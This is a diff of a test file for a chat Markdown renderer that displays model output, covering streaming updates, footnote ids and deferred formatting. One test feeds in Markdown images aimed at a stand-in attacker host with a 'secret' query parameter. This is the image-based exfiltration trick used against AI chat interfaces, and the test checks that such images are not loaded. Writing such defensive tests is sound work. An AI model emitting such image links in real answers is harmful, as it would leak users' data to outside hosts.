@@ -1,10 +1,14 @@
-import { render, screen } from '@testing-library/react'
-import { describe, expect, it } from 'vitest'
+import { render, screen, waitFor } from '@testing-library/react'
+import { beforeAll, describe, expect, it } from 'vitest'
+import { loadMarkdown } from '#components/chat/load-markdown.ts'
 import { Markdown } from '#components/chat/markdown.tsx'
+import { act } from '#tests/support/act.ts'
 
 function show(text: string) {
   return render(<Markdown text={text} />).container
 }
+
+beforeAll(loadMarkdown)
 
 describe('Markdown from a model', () => {
   it('becomes headings, lists, tables and code', () => {
@@ -40,7 +44,10 @@ describe('Markdown from a model', () => {
       '![a cat](https://evil.example/?q=secret) ![](https://evil.example/b.png) ![inline](data:image/png;base64,AA)',
     )
     expect(container.querySelector('img, picture, video, [srcset], [style]')).toBeNull()
-    expect(screen.getByRole('link', { name: 'a cat' })).toHaveAttribute('href', 'https://evil.example/?q=secret')
+    expect(screen.getByRole('link', { name: 'a cat (evil.example)' })).toHaveAttribute(
+      'href',
+      'https://evil.example/?q=secret',
+    )
     expect(screen.getByText('inline')).toBeVisible()
   })
 
@@ -58,23 +65,77 @@ describe('Markdown from a model', () => {
 
   it('leads from a footnote to its note inside the page', () => {
     show('Fact[^1]\n\n[^1]: Source')
-    expect(screen.getByRole('link', { name: '1' })).toHaveAttribute('href', '#user-content-fn-1')
+    expect(screen.getByRole('link', { name: 'Footnote 1' })).toHaveAttribute('href', expect.stringMatching(/-note-1$/))
   })
 
   it.each([
     ['quotes', '>'.repeat(4000)],
     ['lists', '- '.repeat(4000)],
     ['quotes and lists', '> 1. '.repeat(2000)],
-  ])('shows thousands of %s within each other as plain text, without taking the page down', (_, start) => {
+  ])('shows thousands of %s within each other as plain text, without taking the page down', async (_, start) => {
     const text = `${start}deep`
-    expect(show(text).textContent).toBe(text)
+    const page = show(text)
+    await waitFor(() => expect(page.textContent).toBe(text))
   })
 
-  it('draws only the last block again while it grows', () => {
-    const { container, rerender } = render(<Markdown text={'One\n\nTwo'} />)
-    const first = container.querySelector('p')
-    rerender(<Markdown text={'One\n\nTwo and more\n\nThree'} />)
-    expect(container.querySelector('p')).toBe(first)
-    expect(container.querySelectorAll('p')).toHaveLength(3)
+  it('keeps the elements of what is finished while the end grows', () => {
+    const text =
+      'One\n\n- a\n- b\n\n| c |\n|---|\n| d |\n| e |\n\n```js\nlet x\n```\n\nTwo [f] and more\n\n[f]: https://example.org\n\nThree'
+    const { container, rerender } = render(<Markdown text="" isGrowing />)
+    const finished = new Map<string, Element>()
+    for (let end = 0; end <= text.length; end += 1) {
+      rerender(<Markdown text={text.slice(0, end)} isGrowing />)
+      for (const [path, element] of finished) expect(container.querySelector(path), text.slice(0, end)).toBe(element)
+      // The last element of each kind may still change.
+      for (const name of ['p', 'li', 'tr', 'pre']) {
+        const found = [...container.querySelectorAll(name)]
+        for (const element of found.slice(0, -1)) finished.set(pathOf(element, container), element)
+      }
+    }
+    rerender(<Markdown text={text} />)
+    for (const [path, element] of finished) expect(container.querySelector(path)).toBe(element)
+    expect(finished.size).toBeGreaterThan(4)
+  })
+
+  it('keeps what two answers call their footnotes apart', () => {
+    const text = 'Fact[^1]\n\n[^1]: Source'
+    const { container } = render(
+      <>
+        <Markdown text={text} />
+        <Markdown text={text} />
+      </>,
+    )
+    const ids = [...container.querySelectorAll('[id]')].map(({ id }) => id)
+    expect(ids).toHaveLength(4)
+    expect(new Set(ids).size).toBe(4)
+    for (const link of container.querySelectorAll('a')) expect(ids).toContain(link.hash.slice(1))
+  })
+
+  it('formats a long text slice by slice, and shows the rest meanwhile', async () => {
+    const text = 'Some **bold** words.\n\n'.repeat(1000)
+    const { container } = render(<Markdown text={text} />)
+    expect(container.querySelectorAll('strong').length).toBeLessThan(500)
+    expect(container.textContent).toContain('**bold**')
+    await waitFor(() => expect(container.querySelectorAll('strong')).toHaveLength(1000))
+    expect(container.textContent).not.toContain('**')
+  })
+
+  it('shows a part that is too much as typed, and formatted when asked', async () => {
+    const text = '> a **b** c\n>\n'.repeat(2500)
+    const { container } = render(<Markdown text={text} />)
+    const button = await screen.findByText('Show formatted')
+    expect(container.textContent).toContain('**b**')
+    await act(() => button.click())
+    await waitFor(() => expect(container.querySelectorAll('strong')).toHaveLength(2500))
+    expect(container.querySelector('button')).toBeNull()
   })
 })
+
+/** Where an element stands. */
+function pathOf(element: Element, root: Element): string {
+  const steps: string[] = []
+  for (let at = element; at !== root && at.parentElement; at = at.parentElement) {
+    steps.unshift(`:nth-child(${[...at.parentElement.children].indexOf(at) + 1})`)
+  }
+  return `:scope > ${steps.join(' > ')}`
+}
